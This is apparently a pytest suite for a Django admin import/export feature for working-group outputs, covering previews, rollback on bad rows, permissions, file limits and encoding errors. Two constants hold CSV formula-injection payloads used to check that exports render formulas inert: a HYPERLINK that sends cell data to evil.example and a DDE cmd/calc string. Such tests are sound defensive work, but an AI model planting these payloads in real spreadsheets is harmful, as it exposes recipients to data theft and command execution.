import csv
import io

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from taggit.models import Tag

from tests.factories import make_output
from workinggroups.models import Output
from workinggroups.resources import OutputResource

COLUMNS = ["reference", "working_group", "stage", "order", "text", "themes", "tags", "partners"]
CSV_FORMAT = "0"  # the first of the admin's formats: CSV, then XLSX
XLSX_FORMAT = "1"


def exported_rows(paper):
    dataset = OutputResource().export(Output.objects.filter(reference__startswith="SGH24-P1-WG3"))
    return dataset.headers, [dict(zip(dataset.headers, row, strict=True)) for row in dataset]


def as_csv(headers, rows):
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=headers)
    writer.writeheader()
    writer.writerows(rows)
    return SimpleUploadedFile("outputs.csv", buffer.getvalue().encode(), "text/csv")


def preview(client, upload, input_format=CSV_FORMAT):
    return client.post(
        reverse("admin:workinggroups_output_import"),
        {"import_file": upload, "format": input_format, "resource": "0"},
    )


def confirm(client, response):
    form = response.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields}
    return client.post(reverse("admin:workinggroups_output_process_import"), data, follow=True)


def snapshot():
    return list(
        Output.objects.order_by("pk").values_list("pk", "text", "stage", "order", "version")
    )


def test_the_export_names_groups_themes_and_partners_by_slug(editor_client, paper):
    response = editor_client.post(
        reverse("admin:workinggroups_output_export"),
        {"format": CSV_FORMAT, "resource": "0", "export_items": [], **{
            f"outputresource_{column}": "on" for column in COLUMNS}},
    )  # fmt: skip
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == COLUMNS
    assert len(rows) == Output.objects.count()
    row = next(r for r in rows if r["reference"] == "SGH24-P1-WG3-PS-02")
    output = Output.objects.get(reference="SGH24-P1-WG3-PS-02")
    assert row["working_group"] == output.working_group.slug
    assert row["text"] == output.text
    assert set(row["themes"].split(",")) == set(output.themes.values_list("slug", flat=True))


def test_an_import_previews_then_writes_on_confirmation_with_history(editor_client, paper):
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "Changed by import."
    rows[0]["tags"] = "imported, spreadsheet"
    reference = rows[0]["reference"]
    before = snapshot()

    response = preview(editor_client, as_csv(headers, rows))
    assert response.status_code == 200
    assert "confirm_form" in response.context
    assert "<ins" in response.content.decode()
    assert "Changed by import" in response.content.decode()
    assert snapshot() == before, "the preview writes nothing"

    done = confirm(editor_client, response)
    assert done.status_code == 200
    output = Output.objects.get(reference=reference)
    assert output.text == "Changed by import."
    assert sorted(output.tags.names()) == ["imported", "spreadsheet"]
    latest = output.history.first()
    assert latest.history_user.username == "edna"
    assert latest.tag_names == "imported, spreadsheet"


@pytest.mark.parametrize(
    ("column", "bad_value", "message"),
    [
        ("working_group", "no-such-group", "Unknown working group: no-such-group"),
        ("stage", "someday", "is not a valid choice"),
        ("themes", "no-such-theme", "Unknown theme: no-such-theme"),
        ("themes", "", "Give at least one theme slug."),
        ("partners", "nobody", "Unknown organisation: nobody"),
        ("order", "first", "Give a whole number, not “first”."),
    ],
)
def test_an_import_with_one_bad_row_writes_nothing(
    publisher_client, paper, column, bad_value, message
):
    headers, rows = exported_rows(paper)
    for row in rows:
        row["text"] = row["text"] + " (edited)"
    rows.append(dict(rows[0], reference="", order="99", text="A brand new output."))
    rows[2][column] = bad_value
    before, tags_before = snapshot(), sorted(Tag.objects.values_list("name", flat=True))

    # A publisher: an editor may not add outputs to the published paper at all.
    response = preview(publisher_client, as_csv(headers, rows))
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    assert message in response.content.decode()
    result = response.context["result"]
    assert not result.has_errors()
    assert [row.number for row in result.invalid_rows] == [3]

    assert snapshot() == before
    assert sorted(Tag.objects.values_list("name", flat=True)) == tags_before
    assert not Output.objects.filter(text="A brand new output.").exists()


def test_even_a_direct_import_with_one_bad_row_rolls_everything_back(paper):
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "Would be written."
    rows[1]["themes"] = "no-such-theme"
    dataset = tablib.Dataset(*[[row[h] for h in headers] for row in rows], headers=headers)
    before = snapshot()
    result = OutputResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors()
    assert snapshot() == before


def test_outputs_can_be_imported_from_an_xlsx_file(editor_client, paper):
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "From a spreadsheet."
    dataset = tablib.Dataset(*[[row[h] for h in headers] for row in rows], headers=headers)
    upload = SimpleUploadedFile(
        "outputs.xlsx",
        dataset.export("xlsx"),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    response = preview(editor_client, upload, XLSX_FORMAT)
    assert "confirm_form" in response.context, response.content.decode()[:2000]
    confirm(editor_client, response)
    assert Output.objects.get(reference=rows[0]["reference"]).text == "From a spreadsheet."


def test_a_staff_member_without_add_and_change_rights_cannot_import(
    client, paper, django_user_model
):
    viewer = django_user_model.objects.create_user("viewer", is_staff=True)
    viewer.user_permissions.add(
        *django_user_model._meta.get_field("user_permissions").related_model.objects.filter(
            codename="view_output"
        )
    )
    client.force_login(viewer)
    assert client.get(reverse("admin:workinggroups_output_import")).status_code == 403


def test_a_confirmed_import_whose_file_turns_bad_writes_nothing(editor_client, paper):
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "Would be written."
    response = preview(editor_client, as_csv(headers, rows))
    form = response.context["confirm_form"]
    # The stored upload is replaced between preview and confirmation.
    rows[1]["stage"] = "someday"
    with open(form["import_file_name"].value(), "wb") as stored:
        stored.write(as_csv(headers, rows).read())
    before = snapshot()

    done = confirm(editor_client, response)

    assert snapshot() == before
    assert not Output.objects.filter(text="Would be written.").exists()
    html = done.content.decode()
    assert "Nothing was imported: row 2 is not valid." in html
    assert "Import finished" not in html


FORMULA_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULA_TAG = "=cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_the_export_writes_formulas_as_inert_text_in_csv_and_xlsx():
    output = make_output(text=FORMULA_TEXT, tags=[FORMULA_TAG])
    dataset = OutputResource().export(Output.objects.filter(pk=output.pk))

    row = next(csv.DictReader(io.StringIO(dataset.export("csv"))))
    assert row["text"] == "'" + FORMULA_TEXT
    assert row["tags"] == "'" + FORMULA_TAG

    sheet = openpyxl.load_workbook(io.BytesIO(dataset.export("xlsx"))).active
    cells = [cell for cell in sheet[2] if cell.value]
    assert all(cell.data_type == "s" for cell in cells)
    assert "'" + FORMULA_TEXT in [cell.value for cell in cells]


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(editor_client, settings):
    settings.IMPORT_MAX_BYTES = 1_000
    upload = SimpleUploadedFile("big.csv", b"reference,text\n" + b"x" * 2_000, "text/csv")

    response = preview(editor_client, upload)

    assert "confirm_form" not in response.context
    assert "an import takes at most 0.001 MB" in response.content.decode()


def test_a_file_over_the_row_limit_is_refused_with_its_row_count(editor_client, settings):
    settings.IMPORT_MAX_ROWS = 3
    upload = SimpleUploadedFile("rows.csv", b"reference,text\n" + b"a,b\n" * 4, "text/csv")

    response = preview(editor_client, upload)

    assert "confirm_form" not in response.context
    assert "The file has 4 rows; an import takes at most 3." in response.content.decode()


def test_a_file_not_in_utf8_names_the_row_and_the_encoding(editor_client, paper):
    headers, rows = exported_rows(paper)
    rows[1]["text"] = "Caf\u00e9 culture"
    upload = as_csv(headers, rows)
    upload = SimpleUploadedFile("latin.csv", upload.read().decode().encode("latin-1"), "text/csv")

    response = preview(editor_client, upload)

    html = response.content.decode()
    assert "Row 3 is not UTF-8 text" in html
    assert "CSV UTF-8" in html
    assert "UnicodeDecodeError" not in html


def test_a_file_in_the_wrong_format_says_which_format_was_tried(editor_client):
    upload = SimpleUploadedFile("outputs.csv", b"reference,text\na,b\n", "text/csv")

    response = preview(editor_client, upload, input_format=XLSX_FORMAT)

    html = response.content.decode()
    assert "could not be read as xlsx" in html.lower()
    assert "encountered while trying" not in html


@pytest.mark.parametrize("text", ["-1 in 4 councils lack the skills.", FORMULA_TEXT])
def test_an_exported_file_imported_again_keeps_the_original_text(publisher_client, paper, text):
    output = Output.objects.get(reference="SGH24-P1-WG3-PS-02")
    output.text = text
    output.save()
    headers, rows = exported_rows(paper)
    assert next(r for r in rows if r["reference"] == output.reference)["text"] == "'" + text

    confirm(publisher_client, preview(publisher_client, as_csv(headers, rows)))

    output.refresh_from_db()
    assert output.text == text


WRITES = ("INSERT", "UPDATE", "DELETE", "SAVEPOINT", "BEGIN", "RELEASE", "ROLLBACK")


def statements(queries):
    return [q["sql"].split()[0].upper() for q in queries]


def test_a_preview_opens_no_transaction_and_writes_nothing(publisher_client, paper):
    # On SQLite a transaction holds the write lock: every other editor's save would
    # wait for the preview of a large file, then fail.
    headers, rows = exported_rows(paper)
    for row in rows:
        row["text"] += " (edited)"
    rows.append(dict(rows[0], reference="", order="99", text="A brand new output."))
    upload = as_csv(headers, rows)

    with CaptureQueriesContext(connection) as queries:
        response = preview(publisher_client, upload)

    assert "confirm_form" in response.context
    assert "A brand new output." in response.content.decode()
    sql = [q["sql"] for q in queries]
    session = [q for q in sql if "django_session" in q]
    writes = [q for q in sql if q.split()[0].upper() in WRITES and q not in session]
    control = [q for q in writes if q.split()[0].upper() in ("SAVEPOINT", "RELEASE", "ROLLBACK")]
    # The session's own save (one atomic block) is all that is written.
    assert [q for q in writes if q not in control] == []
    assert len(control) <= 2 * len([q for q in session if not q.startswith("SELECT")])


def test_a_confirmed_file_is_checked_whole_before_any_row_is_written(editor_client, paper):
    # So the one transaction that writes is as short as it can be, and a bad last
    # row never leaves the rows before it written, even for a moment.
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "Would be written."
    response = preview(editor_client, as_csv(headers, rows))
    form = response.context["confirm_form"]
    rows[-1]["stage"] = "someday"
    with open(form["import_file_name"].value(), "wb") as stored:
        stored.write(as_csv(headers, rows).read())

    with CaptureQueriesContext(connection) as queries:
        confirm(editor_client, response)

    content = [q["sql"] for q in queries if "workinggroups_" in q["sql"]]
    assert content, "the rows were read"
    assert not [q for q in content if q.split()[0].upper() in ("INSERT", "UPDATE", "DELETE")]


def test_two_new_rows_with_the_same_reference_are_refused_in_the_preview(publisher_client, paper):
    headers, rows = exported_rows(paper)
    new = dict(rows[0], reference="", order="99", text="A brand new output.")
    response = preview(publisher_client, as_csv(headers, [new, dict(new, text="Another.")]))

    assert "confirm_form" not in response.context
    assert "is taken: give the new output another order" in response.content.decode()
    assert [row.number for row in response.context["result"].invalid_rows] == [2]
    assert not Output.objects.filter(text="A brand new output.").exists()
